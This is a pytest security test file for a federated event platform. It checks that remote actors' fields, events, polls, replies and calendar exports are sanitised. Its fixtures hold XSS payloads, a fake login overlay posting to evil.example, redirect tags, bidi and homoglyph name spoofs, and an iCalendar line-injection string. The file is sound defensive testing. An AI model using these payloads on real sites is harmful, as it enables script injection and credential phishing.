"""What others send is shown as text or as plain HTML, wherever a stranger looks (cases 67–73, 81, 85)."""

from __future__ import annotations

import json
from typing import Any

import pytest
from icalendar import Calendar

from node.wording.showing import page_path
from tests.security.conftest import PUBLIC, World
from tests.security.eyes import BIDI, dangers, found_in

pytestmark = pytest.mark.asyncio(loop_scope="session")

API = "/api/allmende/v1"
SCRIPT = (
    "<script>alert(67)</script><img src=x onerror=alert(67)><svg onload=alert(67)><a href=javascript:alert(67)>a</a>"
    "\"><iframe src=https://evil.example></iframe>' onmouseover='alert(67) {{67*67}} %s alert67"
)
OVERLAY = (
    '<div class="invisible modal banner" style="position:fixed;inset:0"><form action="https://evil.example"><input '
    'name=password><button formaction="https://evil.example">Sign in</button></form></div><base href="https://evil.'
    'example/"><meta http-equiv=refresh content="0;url=https://evil.example"><link rel=stylesheet href=//evil.example>'
    "<style>body{display:none}</style><p>overlay71</p>"
)


async def seen(world: World, *more: str) -> dict[str, str]:
    """All pages of a stranger, with nothing dangerous in any."""
    pages = await world.pages(*more)
    assert {path: wrong for path, text in pages.items() if (wrong := found_in(path, text))} == {}
    return pages


def hostile_tags(peer: Any) -> list[dict[str, Any]]:
    """Hashtags, mentions and emoji that are none."""
    icon = {"type": "Image", "url": 'https://evil.example/x.png" onerror="alert(67)'}
    return [
        {"type": "Hashtag", "name": f"#{SCRIPT}", "href": "javascript:alert(67)"},
        {"type": "Mention", "name": SCRIPT, "href": "javascript:alert(67)"},
        {"type": "Emoji", "name": ":x:", "icon": icon},
        {"type": "Emoji", "name": ':y" onerror="alert(67):', "icon": {"type": "Image", "url": peer.url("/y.png")}},
        {"type": "Link", "href": "javascript:alert(67)", "name": SCRIPT},
    ]


async def test_case_67_script_in_every_field_of_an_actor(world: World) -> None:
    fields = [{"type": "PropertyValue", "name": SCRIPT, "value": SCRIPT}]
    image = {"type": "Image", "url": "javascript:alert(67)", "name": SCRIPT}
    hostile = {"name": SCRIPT, "nameMap": {"en": SCRIPT, "de": SCRIPT}, "summary": SCRIPT, "attachment": fields}
    more = {"icon": image, "image": image, "url": "javascript:alert(67)", "tag": hostile_tags(world.evil)}
    actor = world.actor(world.evil, **hostile, **more)
    known = await world.befriend(actor["id"])
    pages = await seen(world, f"/@{known.name}@{known.host}", f"/@{known.name}@{known.host}?lang=de")
    assert "alert67" in pages[f"/@{known.name}@{known.host}"]


async def test_case_67_script_in_every_field_of_an_event(world: World) -> None:
    address = {"type": "PostalAddress", **dict.fromkeys(("streetAddress", "addressLocality", "addressCountry"), SCRIPT)}
    place = {"type": "Place", "name": SCRIPT, "address": address, "url": "javascript:alert(67)"}
    texts = {"name": SCRIPT, "summary": SCRIPT, "content": SCRIPT, "category": SCRIPT, "timezone": "Europe/Paris"}
    picture = {"type": "Document", "mediaType": "image/png", "url": "javascript:alert(67)", "name": SCRIPT}
    media = [picture, picture | {"url": world.evil.url("/p.png")}, {"type": "Link", "href": "javascript:alert(1)"}]
    event = world.event(
        world.evil,
        **texts,
        location=[place, {"type": "VirtualLocation", "url": "javascript:alert(67)", "name": SCRIPT}],
        onlineUrl="javascript:alert(67)",
        externalParticipationUrl="javascript:alert(67)",
        url="javascript:alert(67)",
        attachment=media,
        tag=hostile_tags(world.evil),
    )
    assert (await world.says(world.evil, "Create", event)).state == "accepted"
    post = await world.post(event["id"])
    assert post and post.event
    await world.db.execute(  # the calendar shows whom the hub follows, not each whom a member does
        "UPDATE follows SET follower_id = hub.id FROM actors hub WHERE hub.role_here = 'hub' AND followed_id = $1",
        post.actor.id,
    )
    pages = await seen(world, page_path(post), f"/events/{post.id}.ics", "/events?lang=fr")
    for path in (page_path(post), "/events", "/events.atom?from=network", "/events.ics?from=network"):
        assert "alert67" in pages[path], path
    assert "alert(67)" not in str(Calendar.from_ical(pages[f"/events/{post.id}.ics"]).events[0].get("URL"))
    as_json = json.loads((await world.look(f"{API}/events/{post.id}", "application/json")).body)
    assert [dangers(version["html"]) for version in as_json["versions"]] == [[]]
    assert "javascript:" not in json.dumps([as_json["url"], as_json["event"]["online_url"], as_json["attachments"]])


async def test_case_67_script_in_a_call_a_finding_and_a_poll(world: World) -> None:
    intent = {"type": "Intent", "action": SCRIPT, "resourceConformsTo": SCRIPT}
    call = world.note(world.evil, type="Proposal", name=SCRIPT, content=SCRIPT, purpose="request", publishes=intent)
    article = world.note(world.evil, type="Article", name=SCRIPT, content=SCRIPT, summary=SCRIPT, sensitive=True)
    options = [{"type": "Note", "name": SCRIPT + str(n), "replies": {"totalItems": n}} for n in range(3)]
    poll = world.note(
        world.evil, type="Question", name=SCRIPT, content=SCRIPT, oneOf=options, endTime="2030-01-01T00:00:00Z"
    )
    shown = 0
    for thing in (call, article, poll):
        await world.says(world.evil, "Create", thing)
        post = await world.post(thing["id"])
        if post is not None:
            pages = await seen(world, page_path(post))
            shown += "alert67" in pages[page_path(post)]
    assert shown >= 2


async def test_case_67_script_in_a_reply_and_a_report_to_the_hub(world: World) -> None:
    mine = await world.publish("event")
    reply = world.note(world.evil, content=SCRIPT, inReplyTo=mine.uri, to=[PUBLIC, mine.actor.uri])
    assert (await world.says(world.evil, "Create", reply)).state == "accepted"
    pages = await seen(world, page_path(mine))
    assert "alert67" in pages[page_path(mine)]
    told = await world.says(world.evil, "Flag", [mine.uri], content=SCRIPT)
    assert told.state == "accepted", told
    content = await world.db.fetchval("SELECT content FROM reports ORDER BY id DESC LIMIT 1")
    assert "<" not in content


async def test_case_68_an_emoji_never_gets_into_an_attribute(world: World) -> None:
    icon = {"type": "Image", "url": world.evil.url('/e.png" onerror="alert(68)')}
    tags = [{"type": "Emoji", "name": ":x:", "icon": icon}]
    content = '<p title=":x:">alert68 :x: <a href="https://good.example/:x:/" title=":x:">:x:</a></p>'
    note = world.note(world.evil, content=content, tag=tags)
    await world.says(world.evil, "Create", note)
    post = await world.post(note["id"])
    assert post
    pages = await seen(world, page_path(post))
    assert "alert68" in pages[page_path(post)]
    assert "e.png" not in pages[page_path(post)]


async def test_case_69_no_html_of_third_parties_is_shown(world: World) -> None:
    embed = (
        '<p>alert69</p><iframe src="https://evil.example"></iframe><embed src="https://evil.example"><object></object>'
    )
    card = {"type": "Link", "href": world.evil.url("/page"), "name": embed, "html": embed}
    world.evil.serve(
        "/page", f"<html><head><meta property='og:video' content='{embed}'></head></html>", content_type="text/html"
    )
    note = world.note(world.evil, content=embed, attachment=[card], preview={"type": "Video", "content": embed})
    await world.says(world.evil, "Create", note)
    post = await world.post(note["id"])
    assert post
    pages = await seen(world, page_path(post))
    assert "alert69" in pages[page_path(post)]
    assert "evil.example" not in pages[page_path(post)]


async def test_case_71_nothing_lies_over_our_page(world: World) -> None:
    event = world.event(world.evil, content=OVERLAY, name="overlay")
    await world.says(world.evil, "Create", event)
    post = await world.post(event["id"])
    assert post
    page = await world.look(page_path(post))
    pages = await seen(world, page_path(post))
    assert "overlay71" in pages[page_path(post)]
    for trace in ("invisible", "modal", "position:fixed", "evil.example", 'name="password"', "display:none"):
        assert trace not in pages[page_path(post)], trace
    policy = page.headers["Content-Security-Policy"]
    assert all(rule in policy for rule in ("form-action 'self'", "frame-ancestors 'none'", "base-uri 'none'"))
    assert "unsafe" not in policy


async def test_case_72_a_link_does_not_lie_and_a_name_does_not_turn_around(world: World) -> None:
    actor = world.actor(world.evil, name="\u202eannA\u202c\u200b\u2066x\u2069", summary="\u202eevil")
    known = await world.befriend(actor["id"])
    link = '<a href="https://evil.example/" rel="me opener">https://good.example/</a> \u202etxt.exe'
    note = world.note(world.evil, content=f"<p>link72 {link}</p>")
    await world.says(world.evil, "Create", note)
    post = await world.post(note["id"])
    assert post
    pages = await seen(world, page_path(post), f"/@{known.name}@{known.host}")
    assert [path for path, text in pages.items() if BIDI.search(text)] == []
    shown = pages[page_path(post)]
    assert 'rel="nofollow noopener noreferrer"' in shown.partition("https://evil.example/")[2][:80]


@pytest.mark.parametrize("name", ["al\u0456ce", "a\u200blice", "\u202eecila", "a/../b", "a@b", "a b", "%61", "a\nb"])
async def test_case_72_no_actor_gets_a_name_that_is_none(world: World, name: str) -> None:
    actor = world.actor(world.evil)
    world.evil.serve(actor["id"].removeprefix(world.evil.base_url), actor | {"preferredUsername": name})
    await world.send(
        world.evil, world.activity(world.evil, "Like", world.ada, actor=actor["id"]), key_id=f"{actor['id']}#main-key"
    )
    known = await world.known(actor["id"])
    assert known is None or (
        known.name.isascii() is False and "\u200b" not in known.name and "\u202e" not in known.name
    )


async def test_case_73_every_language_is_cleaned(world: World) -> None:
    texts = {"contentMap": {"de": SCRIPT, "fr": OVERLAY, "en": SCRIPT}, "nameMap": {"de": SCRIPT, "fr": SCRIPT}}
    event = world.event(world.evil, summaryMap={"de": SCRIPT}, **texts)
    await world.says(world.evil, "Create", event)
    post = await world.post(event["id"])
    assert post and len(post.versions) >= 3
    shown = [f"{page_path(post)}?version={one.language}" for one in post.versions]
    pages = await seen(
        world, *shown, "/events?lang=de", "/events.atom?from=network&lang=de", "/events.ics?from=network&lang=de"
    )
    assert all("alert67" in pages[path] or "overlay71" in pages[path] for path in shown)


async def test_case_81_what_is_no_medium_breaks_no_page(world: World) -> None:
    odd: list[Any] = [
        None,
        7,
        "https://evil.example/x.png",
        [[]],
        {"type": "Document"},
        {"type": "Document", "mediaType": "text/html", "url": world.evil.url("/x.html"), "name": "x" * 100_000},
        {"type": "Image", "mediaType": "image/svg+xml", "url": {"type": "Link"}, "width": -1, "height": "x"},
        {"type": "Image", "url": f"{world.hub.base_url}/media/aa/bb.png", "focalPoint": ["a", None], "blurhash": 7},
        {"type": "PropertyValue", "name": {}, "value": []},
        {"type": "Document", "mediaType": "image/png", "url": world.hub.base_url + "/admin/queue", "name": "alert81"},
    ]
    note = world.note(world.evil, attachment=odd, image=odd, icon=odd, content="<p>media81</p>")
    assert (await world.says(world.evil, "Create", note)).state == "accepted"
    post = await world.post(note["id"])
    assert post
    pages = await seen(world, page_path(post))
    assert "media81" in pages[page_path(post)]
    assert "/admin/queue" not in pages[page_path(post)].partition("<main")[2].partition("</main>")[0]


async def test_case_85_a_title_ends_no_line_of_a_calendar(world: World) -> None:
    broken = "Title\r\nX-EVIL:85\r\nATTACH:https://evil.example\r\nEND:VEVENT\nBEGIN:VEVENT\rX-EVIL;a=b:\\n\u2028\x0085"
    place = {"type": "Place", "name": broken, "address": broken}
    event = world.event(world.evil, name=broken, summary=broken, content=broken, location=place, category=broken)
    assert (await world.says(world.evil, "Create", event)).state == "accepted"
    post = await world.post(event["id"])
    assert post
    pages = await seen(world, f"/events/{post.id}.ics")
    read = Calendar.from_ical(pages[f"/events/{post.id}.ics"])
    assert [one.name for one in read.walk() if one.name == "VEVENT"] == ["VEVENT"]
    assert "X-EVIL" in str(read.events[0]["SUMMARY"])
    assert "X-EVIL" not in read.events[0]
    assert "ATTACH" not in read.events[0]
